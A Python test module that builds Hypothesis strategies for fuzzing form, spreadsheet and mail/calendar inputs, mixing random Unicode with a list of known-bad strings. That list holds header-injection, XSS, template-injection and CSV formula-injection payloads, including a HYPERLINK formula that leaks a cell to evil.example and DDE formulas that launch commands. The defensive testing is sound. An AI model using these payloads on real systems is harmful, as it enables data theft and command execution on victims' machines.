"""Hypothesis strategies for what people paste into forms and spreadsheets, and worse."""

from __future__ import annotations

from typing import Any

from hypothesis import strategies as st

# Things that have broken mail and calendar software before: header and line injection,
# markup, quoting, right-to-left and zero-width marks, a NUL, emoji, YAML and CSV specials.
NASTY = [
    "\r\nBcc: attacker@example.com",
    "\nSubject: injected",
    "line one\rline two",
    "<script>alert('x')</script>",
    '"><img src=x onerror=alert(1)>',
    "{{ 7*7 }} {% raw %}",
    'Rp 1.000.000,- & 50% \\ ; , : "quoted"',
    "\u202eRTL override\u202c",
    "zero\u200bwidth\ufeff",
    "NUL\x00byte",
    "Bapak H. Muhamad, S.Sos., M.Si. \U0001f389",
    "=cmd|' /C calc'!A0",
    "- yaml: [list]",
    "&amp; &lt;not&gt;",
    "\u2028line separator\u2029",
    "\t\v\f",
    "BEGIN:VEVENT\r\nEND:VCALENDAR",
    # Spreadsheet formulas (OWASP CSV injection) and links that run or load something.
    '=HYPERLINK("http://evil.example/?leak="&C2,"Klik")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "[klik](javascript:alert(1))",
    "![x](file:///etc/passwd) ![y](http://127.0.0.1:9/x.png)",
]


def hostile_text(max_size: int = 40) -> st.SearchStrategy[str]:
    """Arbitrary Unicode, known-bad snippets, mixtures of both, and very long fields."""
    return st.one_of(
        st.text(max_size=max_size),
        st.sampled_from(NASTY),
        st.lists(st.one_of(st.text(max_size=8), st.sampled_from(NASTY)), max_size=4).map("".join),
        st.integers(min_value=300, max_value=5000).map(lambda n: ("Panjang " * n)[:n]),
    )


def hostile_value() -> st.SearchStrategy[Any]:
    """Any value YAML can hold where a string was expected."""
    scalar = st.one_of(
        hostile_text(),
        st.none(),
        st.booleans(),
        st.integers(),
        st.floats(allow_nan=True),
    )
    return st.one_of(
        scalar,
        st.lists(scalar, max_size=3),
        st.dictionaries(st.text(max_size=5), scalar, max_size=2),
    )
